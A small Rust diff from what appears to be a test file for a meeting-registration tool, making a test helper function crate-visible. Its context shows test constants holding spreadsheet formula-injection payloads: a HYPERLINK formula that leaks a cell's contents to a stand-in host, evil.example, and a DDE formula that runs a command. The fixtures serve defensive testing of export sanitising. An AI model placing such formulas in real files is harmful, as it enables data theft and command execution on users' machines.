@@ -21,7 +21,7 @@ const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click fo
 const DDE: &str = "=cmd|' /C calc'!A0";
 
 /// The demo meeting (five registrations) and four registrants whose fields a spreadsheet could misread.
-fn workspace() -> (TempDir, Store, Vec<Registration>) {
+pub(crate) fn workspace() -> (TempDir, Store, Vec<Registration>) {
     let dir = TempDir::new().unwrap();
     let mut store = Store::open(&dir.path().join("ws.dais")).unwrap();
     create_demo(&mut store).unwrap();
